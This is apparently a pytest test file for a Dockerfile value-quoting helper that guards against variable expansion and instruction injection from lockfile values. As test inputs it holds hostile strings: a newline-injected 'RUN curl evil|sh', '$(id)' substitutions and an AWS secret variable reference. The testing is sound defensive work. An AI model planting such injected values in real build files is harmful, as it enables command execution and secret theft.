"""The one quoting helper for Dockerfile ENV/LABEL values and RUN exec form (THREATS.md B2, B6).

``docker_word`` below is an independent reading of a double-quoted Dockerfile
word, written from Docker's rules (BuildKit ``shell/lex.go``: inside double
quotes a backslash escapes only ``"``, ``$`` and itself; ``$NAME`` and
``${NAME}`` expand).  It reports any expansion it would perform, so a test
fails if a lockfile value could reach Docker's variable substitution.
The real engine reads the same values back in ``test_hostile_locks.py``.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envlock.errors import ReplayError
from envlock.replay.quote import check_key, exec_form, key_value, quote_value


def docker_word(quoted: str) -> tuple[str, list[str]]:
    """(value, expansions) of one double-quoted Dockerfile word."""
    assert quoted.startswith('"') and quoted.endswith('"'), quoted
    body = quoted[1:-1]
    out = []
    expansions = []
    i = 0
    while i < len(body):
        ch = body[i]
        if ch == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
            out.append(body[i + 1])
            i += 2
            continue
        if ch == '"':
            raise AssertionError(f"unescaped quote ends the word early in {quoted!r}")
        if ch == "$" and i + 1 < len(body) and (body[i + 1] == "{" or body[i + 1].isalnum() or body[i + 1] == "_"):
            expansions.append(body[i:])
        out.append(ch)
        i += 1
    assert not body.endswith("\\") or body.endswith("\\\\"), "a trailing backslash would escape the closing quote"
    return "".join(out), expansions


@pytest.mark.parametrize(
    "value, expected",
    [
        ("plain", '"plain"'),
        ("", '""'),
        ('say "hi"', r'"say \"hi\""'),
        ("${AWS_SECRET_ACCESS_KEY}", r'"\${AWS_SECRET_ACCESS_KEY}"'),
        ("$HOME/x", r'"\$HOME/x"'),
        ("C:\\path\\", r'"C:\\path\\"'),
        ("`id` $(id) ; | & # EOF", r'"`id` \$(id) ; | & # EOF"'),
        (":4096:8", '":4096:8"'),
        ("naïve ✓", '"naïve ✓"'),
    ],
)
def test_quote_value_table(value, expected):
    assert quote_value(value) == expected
    assert docker_word(expected) == (value, [])


@pytest.mark.parametrize(
    "bad",
    ["a\nRUN curl evil|sh", "a\rb", "nul\x00", "esc\x1b[31m", "line\u2028sep", "bidi\u202e", "zw\u200b", "del\x7f"],
)
def test_quote_value_refuses_line_breaking_and_invisible_characters(bad):
    with pytest.raises(ReplayError, match="cannot be written into a Dockerfile"):
        quote_value(bad, "runtime.env.X")


def test_quote_value_names_the_field():
    with pytest.raises(ReplayError, match=r"^runtime\.env\.XLA_FLAGS: contains U\+000A"):
        quote_value("x\ny", "runtime.env.XLA_FLAGS")


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=80))
def test_quote_round_trips_and_never_expands(value):
    try:
        quoted = quote_value(value)
    except ReplayError:
        return  # refused: format and zero-width characters
    assert "\n" not in quoted and "\r" not in quoted
    assert docker_word(quoted) == (value, [])


@pytest.mark.parametrize("key", ["OMP_NUM_THREADS", "org.envlock.fingerprint", "org.opencontainers.image.base.name"])
def test_check_key_accepts_identifiers(key):
    assert check_key(key) == key


@pytest.mark.parametrize("key", ["", "A B", "A=B", "$(id)", "-x", "a\nb", 'A"', "x" * 129])
def test_check_key_refuses_anything_else(key):
    with pytest.raises(ReplayError, match="not a valid Dockerfile key"):
        check_key(key)


def test_key_value_pairs_key_and_quoted_value():
    assert key_value("XLA_FLAGS", '--x="$y"') == r'XLA_FLAGS="--x=\"\$y\""'


def test_exec_form_is_a_json_array_of_the_same_strings():
    argv = ["python3", "x.py", "--", "a=1:2~3+4", 'quote"back\\slash', "$(id)", "`id`", "ü"]
    text = exec_form(argv)
    assert text.startswith('["') and text.endswith('"]')
    assert json.loads(text) == argv
    assert text.isascii()


@pytest.mark.parametrize("argv", [[], ["a\nb"], ["ok", "x\r"], ["\x00"]])
def test_exec_form_refuses_empty_commands_and_line_breaks(argv):
    with pytest.raises(ReplayError):
        exec_form(argv)
